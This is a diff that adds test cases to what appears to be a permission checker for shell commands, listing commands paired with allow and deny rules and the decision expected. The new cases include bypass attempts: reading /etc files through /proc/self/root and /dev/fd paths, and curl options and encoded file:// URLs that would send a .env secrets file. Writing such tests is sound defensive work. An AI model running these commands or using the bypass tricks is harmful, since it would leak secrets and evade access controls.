@@ -270,6 +270,54 @@ CASES = [
     ),
     ("an expansion that runs a value", 'cat <<< "${v@P}"', ["cat"], [], [], "default"),
     ("an expansion of another name", "cat <<E\n${!v}\nE", ["cat"], [], [], "default"),
+    ("a descriptor that is a file's name", "echo x >&\u0661", ["echo *"], [], [], "default"),
+    ("a descriptor that is too long a number", "echo x >&99999999999", ["echo *"], [], [], "default"),
+    ("a descriptor", "echo x >&2 3>&- 2>& 1", ["echo *"], [], [], "allow"),
+    ("an operator of zsh", "echo x >! /etc/a", ["echo *", "path:./**"], [], [], "default"),
+    ("a variable of zsh", 'cat "$+HOME"', ["cat *"], [], [], "default"),
+    *[
+        (
+            f"a folder that is timed: {line}",
+            line,
+            ["cat *", "cd *", "time *"],
+            ["path:/etc/**"],
+            [],
+            "deny",
+        )
+        for line in ("time cd / && cat etc/a", "time -p cd /; cat etc/a", "noglob cd /; cat etc/a")
+    ],
+    *[
+        (f"a link of the system: {path}", f"cat {path}", ["cat *"], ["path:/etc/**"], [], "deny")
+        for path in (
+            "/proc/self/root/etc/a",
+            "//proc//1/root/etc/a",
+            "../../proc/self/task/1/root/etc/a",
+            "/proc/self/cwd/../../etc/a",
+            "/dev/fd/../root/etc/a",
+        )
+    ],
+    (
+        "what the system says of a process",
+        "cat /proc/self/status",
+        ["cat *"],
+        ["path:/etc/**"],
+        [],
+        "allow",
+    ),
+    *[
+        (f"a file that is sent: {value}", f"curl {value} x", ["curl *"], ["path:**/.env"], [], "deny")
+        for value in (
+            "-F 'x=@.env;type=text/plain'",
+            "-F 'x=<.env'",
+            "-Fx=@a,.env",
+            "-d x@.env",
+            "--variable x@.env",
+            "file:///srv/app/%2eenv",
+            "--url=FILE://localhost/srv/app/.%65nv",
+            "'file:///srv/app/.env?x'",
+            "'file:///srv/app/.env#x'",
+        )
+    ],
     ("an expansion that is only read", 'cat <<< "$v ${w}"', ["cat"], [], [], "allow"),
 ]
 
